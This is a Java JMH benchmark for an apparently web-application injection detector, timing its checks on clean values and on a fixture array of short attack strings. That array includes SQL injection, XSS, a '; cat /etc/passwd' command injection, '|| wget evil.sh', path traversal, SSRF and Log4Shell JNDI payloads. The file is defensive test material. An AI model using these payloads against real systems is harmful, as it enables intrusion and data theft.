package io.bulwark.benchmarks;

import io.bulwark.policy.detect.Category;
import io.bulwark.policy.detect.Detectors;
import io.bulwark.policy.detect.Finding;
import io.bulwark.policy.detect.Source;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.Blackhole;

/**
 * Injection detection on parameter values, single-threaded (so the figure is per core).
 *
 * <ul>
 *   <li>{@code inspectAllClean}: {@code Detectors.inspectAll} over every category for one typical
 *       ~20-byte clean value (cycling through 16 of them: emails, dates, names with apostrophes,
 *       ids, prose, a URL path);
 *   <li>{@code inspectAllAttack}: the same for ~20-byte attacks of every category (the check stops
 *       at the first finding, as the request pipeline does);
 *   <li>{@code sqlClean}: the SQL injection detector alone on the clean values;
 *   <li>{@code request}: one request's worth of values, 10 query parameters and the ~60 strings and
 *       keys of a 2 KB JSON body, every category (time per request).
 * </ul>
 */
@State(Scope.Thread)
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
@Fork(1)
public class DetectorBenchmark {

  static final String[] CLEAN = {
    "john.doe@example.com", "2026-12-01T10:30:00Z", "Conan O'Brien", "550e8400-e29b-41d4",
    "New York, NY 10001", "select a union rep", "Rock 'n' roll 1957", "+1 (917) 666-0987",
    "/api/v1/users/42", "it's 5 o'clock now", "Q1 2024 report.pdf", "Ben & Jerry's shop",
    "price < 100 or less", "1,299.99 EUR", "search: red shoes", "ABC-12345-XYZ",
  };

  static final String[] ATTACK = {
    "' or 1=1--", "1 union select 1,2", "<script>alert(1)", "<img src=x onerror=", "; cat /etc/passwd",
    "$(whoami)", "../../../etc/passwd", "http://127.0.0.1/", "${jndi:ldap://x/a}", "*)(uid=*)",
    "x%0d%0aSet-Cookie:a", "admin'--", "javascript:alert(1)", "|| wget evil.sh", "http://0x7f000001/",
    "${${lower:j}ndi:x}",
  };

  private final Detectors detectors = Detectors.standard();
  private final Set<Category> all = EnumSet.allOf(Category.class);
  private List<String[]> requestValues;
  private int next;

  @Setup
  public void setUp() {
    for (String[] set : new String[][] {CLEAN}) {
      for (String value : set) {
        if (detectors.inspectAll(all, Source.QUERY, "q", value) != null) {
          throw new IllegalStateException("benchmark clean value is flagged: " + value);
        }
      }
    }
    for (String value : ATTACK) {
      if (detectors.inspectAll(all, Source.QUERY, "q", value) == null) {
        throw new IllegalStateException("benchmark attack value is not flagged: " + value);
      }
    }
    requestValues = new ArrayList<>();
    String[][] params = {
      {"page", "2"}, {"per_page", "50"}, {"sort", "-created_at"}, {"q", "red running shoes"}, {"lang", "en-US"},
      {"from", "2026-11-01"}, {"to", "2026-12-01"}, {"fields", "id,name,price"}, {"ref", "newsletter"}, {"session", "a1b2c3d4e5f6"},
    };
    for (String[] p : params) {
      requestValues.add(new String[] {"QUERY", p[0], p[1]});
    }
    // a 2 KB JSON order: 8 items of 7 fields, plus customer fields; each string and key is one value
    int bytes = 0;
    String[] fields = {"sku", "name", "color", "size", "note", "currency", "gift"};
    String[] values = {"SKU-4411-BLK", "Trail Runner 2", "black/red", "EU 42", "Please gift-wrap; it's for Anna's birthday", "EUR", "no"};
    for (int item = 0; bytes < 1800; item++) {
      for (int f = 0; f < fields.length; f++) {
        requestValues.add(new String[] {"JSON", fields[f], values[f]});
        bytes += fields[f].length() + values[f].length() + 6;
      }
    }
    requestValues.add(new String[] {"JSON", "email", "anna.o'hara@example.com"});
    requestValues.add(new String[] {"JSON", "address", "221B Baker Street, London"});
  }

  @Benchmark
  @BenchmarkMode(Mode.Throughput)
  @OutputTimeUnit(TimeUnit.SECONDS)
  public Finding inspectAllClean() {
    String value = CLEAN[next++ & 15];
    return detectors.inspectAll(all, Source.QUERY, "q", value);
  }

  @Benchmark
  @BenchmarkMode(Mode.Throughput)
  @OutputTimeUnit(TimeUnit.SECONDS)
  public Finding inspectAllAttack() {
    String value = ATTACK[next++ & 15];
    return detectors.inspectAll(all, Source.QUERY, "q", value);
  }

  @Benchmark
  @BenchmarkMode(Mode.Throughput)
  @OutputTimeUnit(TimeUnit.SECONDS)
  public Finding sqlClean() {
    String value = CLEAN[next++ & 15];
    return detectors.inspect(Category.SQL_INJECTION, Source.QUERY, "q", value);
  }

  @Benchmark
  @BenchmarkMode(Mode.SampleTime)
  @OutputTimeUnit(TimeUnit.MICROSECONDS)
  public void request(Blackhole hole) {
    for (String[] v : requestValues) {
      hole.consume(detectors.inspectAll(all, "QUERY".equals(v[0]) ? Source.QUERY : Source.JSON, v[1], v[2]));
    }
  }
}
